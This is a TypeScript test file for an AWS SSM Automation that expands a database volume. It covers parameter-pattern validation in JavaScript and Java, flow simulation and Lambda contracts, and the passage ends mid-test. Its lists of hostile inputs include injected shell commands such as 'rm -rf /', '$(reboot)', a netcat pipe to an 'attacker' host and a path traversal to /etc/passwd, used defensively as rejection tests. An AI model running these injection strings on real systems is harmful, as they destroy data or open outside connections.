/**
 * StemeDB-ExpandVolume (ssm-documents/expand-volume.automation.yml), as synthesized:
 * - its parameter patterns against hostile values, with JavaScript's regex engine (console, Node)
 *   and Java's java.util.regex (the engine of the SSM service), both `matches()` and `find()`;
 * - its flow, walked step by step for every result the Lambdas and commands can give;
 * - its contracts with the expand-volume and wait Lambdas and the Command documents it runs;
 * - its embedded Python (ReadDiskUsage, FailRefused, FailExecution), run with python3 and a stub
 *   boto3.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DescribeSnapshotsCommand, EC2Client } from '@aws-sdk/client-ec2';
import { GetParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { type ExpandResult, expandVolume, loadExpandConfig, parseExpandInput } from '../lambda/expand-volume';
import { logger } from '../lambda/shared/powertools';
import { parseWaitInput, type WaitResult } from '../lambda/wait-for-volume-modification';
import { loadAutomationDocumentContent } from '../lib/automation-document';
import { REPO_ROOT } from '../lib/command-document';
import { agentNamespace } from '../lib/disk-metrics-agent';
import { runPythonHandler, type StepScript } from './support/automation-python';
import {
  type Simulation,
  type StepResult,
  simulateAutomation,
  validateAutomationDocument,
} from './support/automation-validator';
import { managedVolume, mockExpandableVolume, registryEntry } from './support/lambda-ec2-fixtures';

const SUBSTITUTIONS = {
  Prefix: 'StemeDB',
  DataMount: '/data',
  WalDir: '/data/wal',
  DbDir: '/data/db',
  AutomationRoleArn: 'arn:aws:iam::123456789012:role/StemeDB-Automation',
  TopicArn: 'arn:aws:sns:eu-west-1:123456789012:StemeDB-alerts',
  ExpandVolumeFunctionName: 'StemeDB-expand-volume',
  WaitForModificationFunctionName: 'StemeDB-wait-for-volume-modification',
  MigrateWhenRefused: 'false',
};

interface Parameter {
  readonly type: string;
  readonly default?: string;
  readonly allowedPattern?: string;
  readonly allowedValues?: readonly string[];
  readonly maxChars?: number;
}

interface Step {
  readonly name: string;
  readonly action: string;
  readonly inputs: Record<string, unknown>;
}

const doc = loadAutomationDocumentContent('ExpandVolume', { substitutions: SUBSTITUTIONS }) as unknown as {
  parameters: Record<string, Parameter>;
  mainSteps: Step[];
};

function parameter(name: string): Parameter {
  const p = doc.parameters[name];
  if (p === undefined) throw new Error(`no parameter ${name}`);
  return p;
}

function pattern(name: string): string {
  const p = parameter(name).allowedPattern;
  if (p === undefined) throw new Error(`parameter ${name} has no allowedPattern`);
  return p;
}

function stepInputs(name: string): Record<string, unknown> {
  const s = doc.mainSteps.find((x) => x.name === name);
  if (s === undefined) throw new Error(`no step ${name}`);
  return s.inputs;
}

it('is a valid Automation document (schema, references, order, flow, parameters)', () => {
  expect(validateAutomationDocument(doc)).toEqual([]);
});

// ---------------------------------------------------------------------------------------------
// Parameter patterns

const HOSTILE_COMMON = [
  '',
  '; rm -rf /',
  '$(reboot)',
  '`reboot`',
  '&& reboot',
  '| nc attacker 4444',
  '\nreboot',
  'a b',
  '..',
  '../../etc/passwd',
  '"',
  "'",
  '\\',
  '{{ InstanceId }}',
];

/** Values MountPoint must refuse: it takes only the configured data mount (allowedValues). */
const MOUNT_POINT_HOSTILE: readonly string[] = [
  ...HOSTILE_COMMON,
  'data',
  '/',
  '/data/',
  '//data',
  '/data/..',
  '/../etc',
  '/data/../etc',
  '/data/.',
  '/./data',
  '/...',
  '/data; rm -rf /',
  '/data$(reboot)',
  '/data`id`',
  '/data dir',
  ' /data',
  '/data\n/etc',
  '/da\nta',
  '/data\t',
  '/dáta',
  '/data|x',
  '/data&x',
  "/data'x",
  '/data"x',
  '/data*',
  '/~root',
  '/mnt/stemedb_data-1',
  '/data/wal',
];

const CASES: Readonly<Record<string, { valid: readonly string[]; hostile: readonly string[] }>> = {
  InstanceId: {
    valid: ['i-12345678', 'i-0123456789abcdef0'],
    hostile: [
      ...HOSTILE_COMMON,
      'i-12345678; rm -rf /',
      'i-12345678$(reboot)',
      'i-1234567`8`',
      'i-12345678 ',
      ' i-12345678',
      'i-12345678\nrm -rf /',
      '\ni-12345678',
      'i-0123456789ABCDEF0',
      'i-123456789',
      'i-12345678"',
      'i-12345678/../x',
    ],
  },
  VolumeId: {
    valid: ['', 'vol-12345678', 'vol-0123456789abcdef0'],
    hostile: [
      ...HOSTILE_COMMON.filter((v) => v !== ''),
      'vol-12345678;reboot',
      'vol-$(id)',
      'vol-1234 5678',
      ' vol-12345678',
      'vol-12345678\nreboot',
      'vol-',
      'vol-0123456789abcdef0 ',
      'vol-12345678/..',
    ],
  },
  Reason: {
    valid: [
      '',
      'StemeDB-db-1-disk-critical in ALARM since 2024-05-01T12:00:00Z',
      'manual run for ticket 42, size cap 4096 GiB: grow by 50 percent.',
    ],
    hostile: [
      ...HOSTILE_COMMON.filter((v) => !['', '..', 'a b', '../../etc/passwd'].includes(v)),
      'x"y',
      'x\\y',
      'a\nb',
      '{"a":1}',
      'x<script>',
      'ops@example.com',
      '(ticket #42)',
      '+50 = ok',
    ],
  },
  AutomationAssumeRole: {
    valid: ['arn:aws:iam::123456789012:role/StemeDB-Automation', 'arn:aws-cn:iam::123456789012:role/path/x'],
    hostile: [
      ...HOSTILE_COMMON,
      'arn:aws:iam::123:role/x',
      'arn:aws:iam::123456789012:role/x"',
      'arn:aws:iam::123456789012:user/x',
      'arn:aws:iam::123456789012:role/x y',
      'arn:aws:iam::123456789012:role/x\n',
    ],
  },
};

/** Values with only a trailing newline: Java's `$` matches before a final line terminator. */
const TRAILING_NEWLINE = new Set(['arn:aws:iam::123456789012:role/x\n']);

describe('parameter patterns (JavaScript RegExp, as the console and Node evaluate them)', () => {
  for (const [name, { valid, hostile }] of Object.entries(CASES)) {
    it(`${name} accepts ${valid.map((v) => JSON.stringify(v)).join(', ')}`, () => {
      const re = new RegExp(pattern(name));
      for (const v of valid) expect(re.test(v), JSON.stringify(v)).toBe(true);
    });

    it(`${name} rejects every hostile value`, () => {
      const re = new RegExp(pattern(name));
      const accepted = hostile.filter((v) => re.test(v));
      expect(accepted).toEqual([]);
    });
  }

  it('InstanceId has no default, so an empty value cannot start the document', () => {
    expect(parameter('InstanceId').default).toBeUndefined();
  });

  it('MountPoint takes only the configured data mount (allowedValues), no other path', () => {
    expect(parameter('MountPoint').allowedValues).toEqual(['/data']);
    expect(parameter('MountPoint').allowedPattern).toBeUndefined();
    const accepted = MOUNT_POINT_HOSTILE.filter((v) => parameter('MountPoint').allowedValues?.includes(v));
    expect(accepted).toEqual([]);
  });

  it('Reason is capped at 256 characters (maxChars)', () => {
    expect(parameter('Reason').maxChars).toBe(256);
  });

  it.each(['DryRun', 'FallbackToArchive', 'MigrateWhenRefused'])('%s takes only true or false', (name) => {
    expect(parameter(name).allowedValues).toEqual(['true', 'false']);
    expect(parameter(name).allowedPattern).toBeUndefined();
  });

  it('MountPoint defaults to the configured data mount', () => {
    expect(parameter('MountPoint').default).toBe('/data');
  });
});

const JAVA_CHECKER = `
import java.io.*;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.regex.Pattern;

public class RegexCheck {
  public static void main(String[] args) throws Exception {
    BufferedReader in = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
    Base64.Decoder b64 = Base64.getDecoder();
    String line;
    while ((line = in.readLine()) != null) {
      if (line.isEmpty()) continue;
      String[] parts = line.split("\\t", -1);
      Pattern p = Pattern.compile(new String(b64.decode(parts[0]), StandardCharsets.UTF_8));
      String v = new String(b64.decode(parts[1]), StandardCharsets.UTF_8);
      System.out.println((p.matcher(v).matches() ? "1" : "0") + (p.matcher(v).find() ? "1" : "0"));
    }
  }
}
`;

const hasJava = spawnSync('java', ['-version']).status === 0;

describe.skipIf(!hasJava)('parameter patterns (java.util.regex, the SSM service engine)', () => {
  let dir: string;
  const results = new Map<string, { matches: boolean; find: boolean }>();
  const key = (p: string, v: string): string => `${p}\u0000${v}`;

  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'java-regex-'));
    writeFileSync(join(dir, 'RegexCheck.java'), JAVA_CHECKER);
    const pairs: [string, string][] = [];
    for (const [name, { valid, hostile }] of Object.entries(CASES)) {
      for (const v of [...valid, ...hostile]) pairs.push([pattern(name), v]);
    }
    const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
    const input = pairs.map(([p, v]) => `${b64(p)}\t${b64(v)}`).join('\n');
    const out = execFileSync('java', [join(dir, 'RegexCheck.java')], { input, encoding: 'utf8' })
      .trim()
      .split('\n');
    pairs.forEach(([p, v], i) => {
      results.set(key(p, v), { matches: out[i]?.[0] === '1', find: out[i]?.[1] === '1' });
    });
  });

  afterAll(() => {
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  for (const [name, { valid, hostile }] of Object.entries(CASES)) {
    it(`${name}: Java accepts the valid values with matches() and find()`, () => {
      for (const v of valid)
        expect(results.get(key(pattern(name), v)), JSON.stringify(v)).toEqual({ matches: true, find: true });
    });

    it(`${name}: Java rejects every hostile value with matches(), and with find() all but a trailing newline`, () => {
      for (const v of hostile) {
        const r = results.get(key(pattern(name), v));
        expect(r?.matches, JSON.stringify(v)).toBe(false);
        expect(r?.find, JSON.stringify(v)).toBe(TRAILING_NEWLINE.has(v));
      }
    });
  }

  it('documents the one Java find() gap: "$" matches before a final newline', () => {
    // If the service used find() rather than matches(), "i-12345678\n" would pass the pattern.
    // It still reaches no shell: in the Lambda payload it is a raw newline inside a JSON string
    // (invalid JSON, so the invocation fails), the Command documents receive values through
    // environment variables (interpolationType ENV_VAR), and SendCommand rejects it as an
    // instance ID. The next test shows the JSON part.
    const instance = pattern('InstanceId');
    expect(new RegExp(instance).test('i-12345678\n')).toBe(false);
    const java = execFileSync('java', [join(dir, 'RegexCheck.java')], {
      input: `${Buffer.from(instance).toString('base64')}\t${Buffer.from('i-12345678\n').toString('base64')}`,
      encoding: 'utf8',
    }).trim();
    expect(java).toBe('01');
  });
});

it('a value with a trailing newline makes the Lambda payload invalid JSON, so it never reaches the Lambda', () => {
  const sim = simulateAutomation(doc, { InstanceId: 'i-12345678\n' }, happyRun());
  const payload = (sim.inputs.ExpandVolume as { Payload: string }).Payload;
  expect(() => JSON.parse(payload)).toThrow();
});

// ---------------------------------------------------------------------------------------------
// Flow

const VOLUME = 'vol-0123456789abcdef0';
const INSTANCE = 'i-0123456789abcdef0';
const GROW_OUTPUT =
  '{"device":"/dev/nvme1n1","partition":"","fsType":"xfs","sizeBeforeBytes":10725883904,"sizeAfterBytes":21463302144,"did":"grown"}';

const expandResult: ExpandResult = {
  status: 'started',
  volumeId: VOLUME,
  instanceId: INSTANCE,
  node: 'db-1',
  currentSizeGiB: 10,
  targetSizeGiB: 20,
  volumeType: 'gp3',
  snapshotId: 'snap-0123456789abcdef0',
  modificationState: 'modifying',
  reason: '',
  retryAfter: '',
  capStatus: 'clear',
  capWarning: '',
  snapshotsDeleted: [],
  snapshotRetentionProblems: [],
  apiCalls: 5,
};

const waitResult: WaitResult = {
  status: 'ready',
  state: 'optimizing',
  progress: 10,
  targetSizeGiB: 20,
  waitedSeconds: 4,
  apiCalls: 2,
  volumeId: VOLUME,
  reason: '',
};

/** Applies a step's output selectors (`$.Payload.x`) to a Lambda result, as Automation would. */
function lambdaOutputs(stepName: string, payload: object): Record<string, string> {
  const step = doc.mainSteps.find((s) => s.name === stepName) as unknown as {
    outputs: { Name: string; Selector: string }[];
  };
  const out: Record<string, string> = {};
  for (const o of step.outputs) {
    const field = o.Selector.replace(/^\$\.Payload\./, '');
    const value = (payload as Record<string, unknown>)[field];
    if (value === undefined)
      throw new Error(`${stepName}: selector ${o.Selector} finds nothing in the Lambda result`);
    out[o.Name] = String(value);
  }
  return out;
}

type Overrides = Partial<Record<string, StepResult | StepResult[]>>;

/** Every step succeeds with typical outputs unless overridden (a list gives one result per run). */
function happyRun(overrides: Overrides = {}): (step: string, inputs: unknown) => StepResult {
  const defaults: Record<string, StepResult> = {
    DiskReportBefore: { status: 'Success', outputs: { Output: '{"usedPercent":95}' } },
    ReadDiskUsage: {
      status: 'Success',
      outputs: { UsedBytes: '10200547328', FilesystemBytes: '10725883904', Note: '' },
    },
    ExpandVolume: { status: 'Success', outputs: lambdaOutputs('ExpandVolume', expandResult) },
    WaitForOptimizing: { status: 'Success', outputs: lambdaOutputs('WaitForOptimizing', waitResult) },
    WaitForOptimizingAgain: {
      status: 'Success',
      outputs: lambdaOutputs('WaitForOptimizingAgain', waitResult),
    },
    GrowFilesystem: { status: 'Success', outputs: { Output: GROW_OUTPUT } },
    DiskReportAfter: { status: 'Success', outputs: { Output: '{"usedPercent":48}' } },
    Notify: { status: 'Success', outputs: { MessageId: 'm-1' } },
    NotifyRefused: { status: 'Success', outputs: { MessageId: 'm-2' } },
    NotifyFailure: { status: 'Success', outputs: { MessageId: 'm-3' } },
    NotifyCapWarning: { status: 'Success', outputs: { MessageId: 'm-4' } },
    ArchiveWalFallback: {
      status: 'Success',
      outputs: { ExecutionId: 'child-1', Status: 'Success', Output: '' },
    },
    MigrationFallback: {
      status: 'Success',
      outputs: { ExecutionId: 'child-2', Status: 'Success', Output: '' },
    },
    // These two raise on purpose.
    FailRefused: { status: 'Failed' },
    FailExecution: { status: 'Failed' },
  };
  const queues = new Map<string, StepResult[]>();
  for (const [k, v] of Object.entries(overrides))
    if (v !== undefined) queues.set(k, Array.isArray(v) ? [...v] : [v]);
  return (step) => {
    const queue = queues.get(step);
    const next = queue && queue.length > 1 ? queue.shift() : queue?.[0];
    const result = next ?? defaults[step];
    if (result === undefined) throw new Error(`no result for step ${step}`);
    return result;
  };
}

function expand(over: Partial<ExpandResult>): StepResult {
  return { status: 'Success', outputs: lambdaOutputs('ExpandVolume', { ...expandResult, ...over }) };
}

function waited(status: WaitResult['status']): StepResult {
  return { status: 'Success', outputs: lambdaOutputs('WaitForOptimizing', { ...waitResult, status }) };
}

function run(params: Record<string, string>, overrides: Overrides = {}): Simulation {
  return simulateAutomation(doc, { InstanceId: INSTANCE, ...params }, happyRun(overrides));
}

/** The input of an aws:executeAutomation step that starts `document` for the node, as the automation role. */
function childStart(document: string, reason: string): unknown {
  return {
    DocumentName: document,
    RuntimeParameters: {
      InstanceId: [INSTANCE],
      AutomationAssumeRole: [SUBSTITUTIONS.AutomationRoleArn],
      DryRun: ['false'],
      Reason: [reason],
    },
  };
}

/** The steps of a run in which every step succeeds and the modification is optimizing at once. */
const HAPPY_PATH = [
  'DiskReportBefore',
  'ReadDiskUsage',
  'ExpandVolume',
  'BranchOnExpansion',
  'WaitForOptimizing',
  'BranchOnWait',
  'GrowFilesystem',
  'DiskReportAfter',
  'Notify',
];

const PUBLISH_STEPS = new Set(['Notify', 'NotifyRefused', 'NotifyFailure', 'NotifyCapWarning']);

describe('flow', () => {
  it('expands, waits for optimizing, grows the filesystem, reports and notifies', () => {
    const sim = run({});
    expect(sim.path).toEqual(HAPPY_PATH);
    expect(sim.status).toBe('Success');
  });

  it('notifies the volume sizes before and after, the snapshot ID and the filesystem sizes', () => {
    const notify = run({}).inputs.Notify as { TopicArn: string; Subject: string; Message: string };
    expect(notify.TopicArn).toBe(SUBSTITUTIONS.TopicArn);
    expect(notify.Message).toContain(`Volume ${VOLUME}: 10 GiB before, 20 GiB after (started)`);
    expect(notify.Message).toContain('snap-0123456789abcdef0');
    expect(notify.Message).toContain(GROW_OUTPUT);
    expect(notify.Subject.length).toBeLessThanOrEqual(100);
  });

  it('keeps every SNS subject within 100 characters for the longest values', () => {
    const sims = [
      run({}, { ExpandVolume: expand({ capStatus: 'near-cap', capWarning: 'x'.repeat(300) }) }),
      run({}, { ExpandVolume: expand({ status: 'dry-run' }) }),
      run({}, { ExpandVolume: expand({ status: 'deferred' }) }),
      run({}, { ExpandVolume: { status: 'Failed' } }),
    ];
    for (const sim of sims) {
      for (const step of PUBLISH_STEPS) {
        const subject = (sim.inputs[step] as { Subject?: string } | undefined)?.Subject;
        if (subject !== undefined) expect(subject.length, subject).toBeLessThanOrEqual(100);
      }
    }
  });

  it('grows the filesystem of the volume the Lambda resolved, at the mount point, honouring DryRun', () => {
    const grow = run({ VolumeId: '' }).inputs.GrowFilesystem as {
      DocumentName: string;
      InstanceIds: string[];
      Parameters: Record<string, string>;
    };
    expect(grow.DocumentName).toBe('StemeDB-Host-ExpandVolume');
    expect(grow.InstanceIds).toEqual([INSTANCE]);
    expect(grow.Parameters).toEqual({ MountPoint: '/data', VolumeId: VOLUME, DryRun: 'false' });
  });

  it('reuses an in-flight modification and waits a second time while it is still modifying', () => {
    const sim = run({}, { ExpandVolume: expand({ status: 'reused' }), WaitForOptimizing: waited('pending') });
    expect(sim.path).toContain('WaitForOptimizingAgain');
    expect(sim.path.at(-1)).toBe('Notify');
    expect(sim.status).toBe('Success');
  });

  it('notifies and fails when the modification is still pending after both bounded waits', () => {
    const sim = run({}, { WaitForOptimizing: waited('pending'), WaitForOptimizingAgain: waited('pending') });
    expect(sim.path.slice(-2)).toEqual(['NotifyFailure', 'FailExecution']);
    expect(sim.path).not.toContain('GrowFilesystem');
    expect(sim.status).toBe('Failed');
  });

  it('notifies and fails when the modification failed', () => {
    const sim = run({}, { WaitForOptimizing: waited('failed') });
    expect(sim.path.slice(-3)).toEqual(['BranchOnWait', 'NotifyFailure', 'FailExecution']);
    expect(sim.status).toBe('Failed');
  });

  it('in a dry run goes straight to GrowFilesystem with DryRun=true and does not wait', () => {
    const sim = run({ DryRun: 'true' }, { ExpandVolume: expand({ status: 'dry-run', snapshotId: '' }) });
    expect(sim.path).not.toContain('WaitForOptimizing');
    expect(sim.path).toEqual(
      HAPPY_PATH.filter((step) => !['WaitForOptimizing', 'BranchOnWait'].includes(step)),
    );
    expect((sim.inputs.GrowFilesystem as { Parameters: { DryRun: string } }).Parameters.DryRun).toBe('true');
    expect(JSON.parse((sim.inputs.ExpandVolume as { Payload: string }).Payload).dryRun).toBe('true');
    expect(sim.status).toBe('Success');
  });

  it('when refused at the cap, notifies the reason, falls back to WAL archival and ends Failed', () => {
    const reason = 'the volume is at the size cap of 4096 GiB (expansion.maxSizeGiB)';
    const sim = run({}, { ExpandVolume: expand({ status: 'refused', reason, targetSizeGiB: 4096 }) });
    expect(sim.path.slice(0, 3)).toEqual(HAPPY_PATH.slice(0, 3));
    expect(sim.path.slice(3)).toEqual([
      'BranchOnExpansion',
      'NotifyRefused',
      'BranchOnFallback',
      'ArchiveWalFallback',
      'BranchOnMigration',
      'FailRefused',
    ]);
    expect(sim.path).not.toContain('MigrationFallback');
    expect((sim.inputs.NotifyRefused as { Message: string }).Message).toContain(`refused: ${reason}`);
    expect(sim.inputs.ArchiveWalFallback).toEqual(childStart('StemeDB-ArchiveWal', ''));
    expect((sim.inputs.FailRefused as { InputPayload: Record<string, string> }).InputPayload).toMatchObject({
      status: 'refused',
      reason,
    });
    expect(sim.status).toBe('Failed');
  });

  it('when deferred and the fallback is off, notifies when to retry and ends Failed without archiving', () => {
    const retryAfter = '2024-05-01T18:00:00.000Z';
    const sim = run(
      { FallbackToArchive: 'false' },
      { ExpandVolume: expand({ status: 'deferred', reason: 'VolumeModificationRateExceeded', retryAfter }) },
    );
    expect(sim.path).not.toContain('ArchiveWalFallback');
    expect(sim.path.at(-1)).toBe('FailRefused');
    expect((sim.inputs.NotifyRefused as { Message: string }).Message).toContain(`Retry after: ${retryAfter}`);
    expect(sim.status).toBe('Failed');
  });

  it('does not fall back to archival for invalid input', () => {
    const sim = run({}, { ExpandVolume: expand({ status: 'invalid', reason: 'instanceId is bad' }) });
    expect(sim.path).not.toContain('ArchiveWalFallback');
    expect(sim.path.slice(-4)).toEqual([
      'NotifyRefused',
      'BranchOnFallback',
      'BranchOnMigration',
      'FailRefused',
    ]);
  });

  it('does not migrate for invalid input either, even when migration is requested', () => {
    const sim = run(
      { MigrateWhenRefused: 'true' },
      { ExpandVolume: expand({ status: 'invalid', reason: 'instanceId is bad' }) },
    );
    expect(sim.path).not.toContain('ArchiveWalFallback');
    expect(sim.path).not.toContain('MigrationFallback');
    expect(sim.path.at(-1)).toBe('FailRefused');
  });

  it.each(['refused', 'deferred'] as const)(
    'when %s and migration is requested, archives WAL, then starts AddDataVolume for the node, and still ends Failed',
    (status) => {
      const sim = run(
        { MigrateWhenRefused: 'true', Reason: 'disk critical' },
        { ExpandVolume: expand({ status, reason: 'cannot grow' }) },
      );
      expect(sim.path.slice(-5)).toEqual([
        'BranchOnFallback',
        'ArchiveWalFallback',
        'BranchOnMigration',
        'MigrationFallback',
        'FailRefused',
      ]);
      expect(sim.inputs.MigrationFallback).toEqual(childStart('StemeDB-AddDataVolume', 'disk critical'));
      expect((sim.inputs.NotifyRefused as { Message: string }).Message).toContain(
        'migration to a new volume (StemeDB-AddDataVolume) requested: true',
      );
      expect(sim.status).toBe('Failed');
    },
  );

  it('migrates even when the archive fallback failed (the disk is as full as before), or with the archive off', () => {
    const afterFailedArchive = run(
      { MigrateWhenRefused: 'true' },
      {
        ExpandVolume: expand({ status: 'refused', reason: 'cap' }),
        ArchiveWalFallback: { status: 'Failed' },
      },
    );
    expect(afterFailedArchive.path.slice(-3)).toEqual([
      'BranchOnMigration',
      'MigrationFallback',
      'FailRefused',
    ]);
    const archiveOff = run(
      { MigrateWhenRefused: 'true', FallbackToArchive: 'false' },
      { ExpandVolume: expand({ status: 'deferred', reason: 'rate' }) },
    );
    expect(archiveOff.path).not.toContain('ArchiveWalFallback');
    expect(archiveOff.path.slice(-3)).toEqual(['BranchOnMigration', 'MigrationFallback', 'FailRefused']);
  });

  it('passes a dry run on to the migration, and still ends Failed when the migration fails', () => {
    const sim = run(
      { MigrateWhenRefused: 'true', DryRun: 'true' },
      { ExpandVolume: expand({ status: 'refused', reason: 'cap' }), MigrationFallback: { status: 'Failed' } },
    );
    expect(
      (sim.inputs.MigrationFallback as { RuntimeParameters: { DryRun: string[] } }).RuntimeParameters.DryRun,
    ).toEqual(['true']);
    expect(sim.path.at(-1)).toBe('FailRefused');
    expect(sim.status).toBe('Failed');
  });

  it('takes the migration default from the deployment (remediation.migrateWhenRefused), off unless configured', () => {
    expect(parameter('MigrateWhenRefused').default).toBe('false');
    const on = loadAutomationDocumentContent('ExpandVolume', {
      substitutions: { ...SUBSTITUTIONS, MigrateWhenRefused: 'true' },
    }) as unknown as { parameters: Record<string, Parameter> };
    expect(on.parameters.MigrateWhenRefused?.default).toBe('true');
  });

  it('still ends Failed with the reason when the fallback document fails or does not exist', () => {
    const sim = run(
      {},
      {
        ExpandVolume: expand({ status: 'refused', reason: 'cap' }),
        ArchiveWalFallback: { status: 'Failed' },
      },
    );
    expect(sim.path.slice(-3)).toEqual(['ArchiveWalFallback', 'BranchOnMigration', 'FailRefused']);
    expect(sim.status).toBe('Failed');
  });

  it('expands even when the disk report before cannot run (it is best effort)', () => {
    const sim = run({}, { DiskReportBefore: { status: 'Failed' } });
    expect(sim.path.at(-1)).toBe('Notify');
    expect(sim.status).toBe('Success');
  });

  const NEAR_CAP =
    'at 3840 GiB the volume is within 25% of its cap, maxSizeGiB (4096 GiB) (256 GiB left): the next expansion can only grow it to the cap, and the one after is refused; move the data to a larger volume (AddDataVolume, runbook §5B) or raise the cap';

  it.each(['started', 'reused'] as const)(
    'warns before going on when a %s expansion leaves the volume near its cap',
    (status) => {
      const sim = run({}, { ExpandVolume: expand({ status, capStatus: 'near-cap', capWarning: NEAR_CAP }) });
      expect(sim.path.slice(2, 6)).toEqual([
        'ExpandVolume',
        'BranchOnExpansion',
        'NotifyCapWarning',
        'WaitForOptimizing',
      ]);
      expect(sim.path.at(-1)).toBe('Notify');
      expect(sim.status).toBe('Success');
      const warning = sim.inputs.NotifyCapWarning as { TopicArn: string; Subject: string; Message: string };
      expect(warning.TopicArn).toBe(SUBSTITUTIONS.TopicArn);
      expect(warning.Subject).toBe(`StemeDB-ExpandVolume on ${INSTANCE}: volume near its size cap`);
      expect(warning.Message).toContain(NEAR_CAP);
      expect(warning.Message).toContain(`(${status})`);
    },
  );

  it('warns at the cap too, and the expansion still finishes', () => {
    const sim = run(
      {},
      { ExpandVolume: expand({ capStatus: 'at-cap', capWarning: 'the next expansion will be refused' }) },
    );
    expect(sim.path).toContain('NotifyCapWarning');
    expect(sim.path).toContain('GrowFilesystem');
    expect(sim.status).toBe('Success');
  });

  it('does not warn when the cap is far, nor in a dry run, nor with a refusal (which notifies itself)', () => {
    expect(run({}).path).not.toContain('NotifyCapWarning');
    const dry = run(
      { DryRun: 'true' },
      { ExpandVolume: expand({ status: 'dry-run', capStatus: 'near-cap', capWarning: NEAR_CAP }) },
    );
    expect(dry.path).not.toContain('NotifyCapWarning');
    const refused = run(
      {},
      { ExpandVolume: expand({ status: 'refused', capStatus: 'unchecked', reason: 'cap' }) },
    );
    expect(refused.path).not.toContain('NotifyCapWarning');
    expect(refused.path).toContain('NotifyRefused');
  });

  it('goes on with the expansion when the warning cannot be published', () => {
    const sim = run(
      {},
      {
        ExpandVolume: expand({ capStatus: 'near-cap', capWarning: NEAR_CAP }),
        NotifyCapWarning: { status: 'Failed' },
      },
    );
    expect(
      sim.path.slice(sim.path.indexOf('NotifyCapWarning'), sim.path.indexOf('NotifyCapWarning') + 2),
    ).toEqual(['NotifyCapWarning', 'WaitForOptimizing']);
    expect(sim.path.at(-1)).toBe('Notify');
    expect(sim.status).toBe('Success');
  });

  const failing = [
    'ReadDiskUsage',
    'ExpandVolume',
    'WaitForOptimizing',
    'WaitForOptimizingAgain',
    'GrowFilesystem',
  ] as const;

  it.each(failing)('notifies and ends Failed when %s fails', (step) => {
    const overrides: Overrides = { [step]: { status: 'Failed' } };
    if (step === 'WaitForOptimizingAgain') overrides.WaitForOptimizing = waited('pending');
    const sim = run({}, overrides);
    expect(sim.path).toContain(step);
    expect(sim.path.slice(sim.path.indexOf(step) + 1)).toEqual(['NotifyFailure', 'FailExecution']);
    expect(sim.status).toBe('Failed');
  });

  it('still ends Failed when the failure notification itself fails', () => {
    const sim = run({}, { GrowFilesystem: { status: 'Failed' }, NotifyFailure: { status: 'Failed' } });
    expect(sim.path.slice(-2)).toEqual(['NotifyFailure', 'FailExecution']);
    expect(sim.status).toBe('Failed');
  });

  it('has a notification on every path that ends Failed', () => {
    const scenarios: Overrides[] = [
      ...failing.map((s) => ({ WaitForOptimizing: waited('pending'), [s]: { status: 'Failed' as const } })),
      ...(['refused', 'deferred', 'invalid'] as const).map((status) => ({
        ExpandVolume: expand({ status }),
      })),
      { WaitForOptimizing: waited('failed') },
      { WaitForOptimizing: waited('invalid') },
      { WaitForOptimizing: waited('pending'), WaitForOptimizingAgain: waited('failed') },
    ];
    for (const overrides of scenarios) {
      const sim = run({}, overrides);
      expect(sim.status).toBe('Failed');
      expect(
        sim.path.some((s) => PUBLISH_STEPS.has(s)),
        sim.path.join(' → '),
      ).toBe(true);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Contracts with the Lambdas and the Command documents

describe('contracts', () => {
  it('the real expand-volume warns on the expansion that reaches the cap, before the next one is refused', async () => {
    const ec2Mock = mockClient(EC2Client);
    const ssmMock = mockClient(SSMClient);
    logger.setLogLevel('SILENT');
    try {
      mockExpandableVolume(ec2Mock, managedVolume({ VolumeId: VOLUME, Size: 3000 }), {
        applyModification: true,
      });
      ec2Mock.on(DescribeSnapshotsCommand).resolves({ Snapshots: [] });
      ssmMock.on(GetParameterCommand).resolves({
        Parameter: { Value: registryEntry('db-1', { instanceId: INSTANCE, volumeId: VOLUME }) },
      });
      const deps = {
        ec2: new EC2Client({ region: 'eu-west-1' }),
        ssm: new SSMClient({ region: 'eu-west-1' }),
        config: loadExpandConfig({}),
        retry: { sleep: async () => {} },
      };
      const published: string[] = [];
      for (let i = 0; i < 2; i++) {
        const result = await expandVolume({ instanceId: INSTANCE, volumeId: VOLUME }, deps);
        const sim = run(
          {},
          { ExpandVolume: { status: 'Success', outputs: lambdaOutputs('ExpandVolume', result) } },
        );
        published.push(...sim.path.filter((step) => PUBLISH_STEPS.has(step)));
        if (i === 0) {
          expect(result).toMatchObject({ status: 'started', targetSizeGiB: 4096, capStatus: 'at-cap' });
          expect((sim.inputs.NotifyCapWarning as { Message: string }).Message).toContain(
            'the next expansion will be refused',
          );
        } else {
          expect(result).toMatchObject({ status: 'refused', currentSizeGiB: 4096 });
        }
      }
      expect(published).toEqual(['NotifyCapWarning', 'Notify', 'NotifyRefused']);
    } finally {
      ec2Mock.restore();
      ssmMock.restore();
    }
  });

  it('sends expand-volume a payload its input parser accepts, usage from the metrics included', async () => {
    const payload = (
      run({ Reason: 'StemeDB-db-1-disk-critical in ALARM since 2024-05-01T12:00:00Z' }).inputs
        .ExpandVolume as { Payload: string }
    ).Payload;
    expect(parseExpandInput(JSON.parse(payload))).toEqual({
      ok: true,
      request: {
        instanceId: INSTANCE,
        volumeId: undefined,
        reason: 'StemeDB-db-1-disk-critical in ALARM since 2024-05-01T12:00:00Z',
        dryRun: false,
        usedBytes: 10200547328,
        filesystemBytes: 10725883904,
      },
    });
  });

  it('sends expand-volume a payload it accepts when no disk metrics are available', async () => {
    const sim = run(
      { VolumeId: VOLUME },
      { ReadDiskUsage: { status: 'Success', outputs: { UsedBytes: '', FilesystemBytes: '', Note: 'none' } } },
    );
    const parsed = parseExpandInput(JSON.parse((sim.inputs.ExpandVolume as { Payload: string }).Payload));
    expect(parsed).toMatchObject({ ok: true, request: { volumeId: VOLUME, usedBytes: undefined } });
  });

  it('sends the wait Lambda a payload its input parser accepts, bounded to 600 s per call', async () => {
    const payload = (run({}).inputs.WaitForOptimizing as { Payload: string }).Payload;
    expect(
